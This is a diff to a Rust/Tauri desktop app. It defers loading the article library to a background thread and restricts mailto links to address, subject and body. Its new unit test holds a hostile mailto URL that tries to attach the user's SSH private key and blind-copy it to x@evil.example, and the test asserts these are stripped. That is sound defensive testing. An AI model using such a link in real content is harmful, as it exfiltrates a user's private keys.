@@ -1,4 +1,5 @@
-//! Starts the window: loads the library, watches the trainee's folders, guards navigation.
+//! Starts the window, then loads the library behind it (the UI shows its loading state until
+//! the library is there), watches the trainee's folders and guards navigation.
 
 use std::path::PathBuf;
 use std::sync::{Arc, Mutex, RwLock};
@@ -27,12 +28,24 @@ pub struct LibraryFolders {
 pub fn load_library(
     folders: &LibraryFolders,
 ) -> Result<ArticleLibrary, skills_articles::CatalogueError> {
-    let catalogue = SkillCatalogue::load(&folders.bundled.join(paths::CATALOGUE_FILE))?;
-    let mut library = ArticleLibrary::new(Arc::new(catalogue));
+    let catalogue = load_catalogue(folders)?;
+    Ok(load_sources(catalogue, folders))
+}
+
+/// Reads the bundled skill catalogue.
+fn load_catalogue(
+    folders: &LibraryFolders,
+) -> Result<Arc<SkillCatalogue>, skills_articles::CatalogueError> {
+    SkillCatalogue::load(&folders.bundled.join(paths::CATALOGUE_FILE)).map(Arc::new)
+}
+
+/// Loads every article source into a library with this catalogue.
+fn load_sources(catalogue: Arc<SkillCatalogue>, folders: &LibraryFolders) -> ArticleLibrary {
+    let mut library = ArticleLibrary::new(catalogue);
     library.set_source(ArticleSource::Bundled, Some(folders.bundled.clone()));
     library.set_source(ArticleSource::User, Some(folders.user.clone()));
     library.set_source(ArticleSource::Extra, folders.extra.clone());
-    Ok(library)
+    library
 }
 
 /// Runs the window until it is closed.
@@ -43,19 +56,19 @@ pub fn run(folders: LibraryFolders) -> Result<(), Box<dyn std::error::Error>> {
             folders.user.display()
         )
     })?;
-    let library = load_library(&folders)?;
+    // The catalogue is small and the journal needs it; the articles load after the window opens.
+    let catalogue = load_catalogue(&folders)?;
     let stored = settings::load(&folders.data_dir);
-    let journal = JournalSlot::open(&folders.data_dir, library.catalogue());
-    let watched: Vec<PathBuf> = std::iter::once(folders.user.clone())
-        .chain(folders.extra.clone())
-        .collect();
+    let journal = JournalSlot::open(&folders.data_dir, &catalogue);
+    let (library_loaded, _) = tokio::sync::watch::channel(false);
 
     tauri::Builder::default()
         .plugin(tauri_plugin_opener::init())
         .plugin(tauri_plugin_window_state::Builder::default().build())
         .plugin(tauri_plugin_dialog::init())
         .manage(AppState {
-            library: RwLock::new(library),
+            library: RwLock::new(ArticleLibrary::new(Arc::clone(&catalogue))),
+            library_loaded,
             journal: Mutex::new(journal),
             data_dir: folders.data_dir.clone(),
             settings: Mutex::new(stored),
@@ -109,11 +122,31 @@ pub fn run(folders: LibraryFolders) -> Result<(), Box<dyn std::error::Error>> {
                 .min_inner_size(720.0, 520.0)
                 .on_navigation(is_app_url)
                 .build()?;
-            start_watching(app.handle(), &watched);
+            start_loading(app.handle(), catalogue, folders);
             Ok(())
         })
         .run(tauri::generate_context!("tauri.conf.json"))?;
     Ok(())
+}
+
+/// Loads the articles on a thread of their own, so the window is there at once; then puts the
+/// library in place, tells the UI and starts watching the trainee's folders.
+fn start_loading(app: &tauri::AppHandle, catalogue: Arc<SkillCatalogue>, folders: LibraryFolders) {
+    let handle = app.clone();
+    std::thread::spawn(move || {
+        let library = load_sources(catalogue, &folders);
+        let state = handle.state::<AppState>();
+        if let Ok(mut slot) = state.library.write() {
+            *slot = library;
+        }
+        state.library_loaded.send_replace(true);
+        // The UI refetches on this event; a failed emit only means no window is listening.
+        let _ = handle.emit(LIBRARY_CHANGED, ());
+        let watched: Vec<PathBuf> = std::iter::once(folders.user.clone())
+            .chain(folders.extra.clone())
+            .collect();
+        start_watching(&handle, &watched);
+    });
 }
 
 /// Reloads the trainee's folders whenever a Markdown file in them changes and tells the UI.
@@ -153,13 +186,16 @@ fn is_app_url(url: &Url) -> bool {
     }
 }
 
-/// Checks a URL the UI asks to open outside the app: http, https and mailto only.
+/// Checks a URL the UI asks to open outside the app: http, https and mailto only. A mailto
+/// link keeps its address and at most `subject` and `body`: an article cannot make the mail
+/// client attach a file (`?attach=`), add hidden recipients or set other headers.
 pub fn external_url(raw: &str) -> Result<Url, CommandError> {
     let url = Url::parse(raw.trim()).map_err(|error| {
         CommandError::new("invalid_url", format!("not a valid link ({error}): {raw}"))
     })?;
     match url.scheme() {
-        "http" | "https" | "mailto" => Ok(url),
+        "http" | "https" => Ok(url),
+        "mailto" => Ok(plain_mailto(url)),
         other => Err(CommandError::new(
             "invalid_url",
             format!(
@@ -167,6 +203,21 @@ pub fn external_url(raw: &str) -> Result<Url, CommandError> {
             ),
         )),
     }
+}
+
+/// `url` without its fragment and with only the `subject` and `body` fields of its query.
+fn plain_mailto(mut url: Url) -> Url {
+    let kept: Vec<(String, String)> = url
+        .query_pairs()
+        .filter(|(key, _)| key.eq_ignore_ascii_case("subject") || key.eq_ignore_ascii_case("body"))
+        .map(|(key, value)| (key.to_ascii_lowercase(), value.into_owned()))
+        .collect();
+    url.set_fragment(None);
+    url.set_query(None);
+    if !kept.is_empty() {
+        url.query_pairs_mut().extend_pairs(kept);
+    }
+    url
 }
 
 #[cfg(test)]
@@ -197,6 +248,25 @@ mod tests {
                 "{refused} must be refused"
             );
         }
+    }
+
+    #[test]
+    fn mailto_links_keep_only_the_address_subject_and_body() -> Result<(), CommandError> {
+        let url = external_url(
+            "mailto:coach@example.org?subject=Vraag&attach=/home/me/.ssh/id_rsa&bcc=x@evil.example&body=Hoi%20daar#frag",
+        )?;
+        assert_eq!(
+            url.as_str(),
+            "mailto:coach@example.org?subject=Vraag&body=Hoi+daar",
+            "attach, bcc and the fragment are dropped"
+        );
+        let plain = external_url("mailto:coach@example.org?ATTACH=x")?;
+        assert_eq!(
+            plain.as_str(),
+            "mailto:coach@example.org",
+            "any case of attach goes"
+        );
+        Ok(())
     }
 
     #[test]
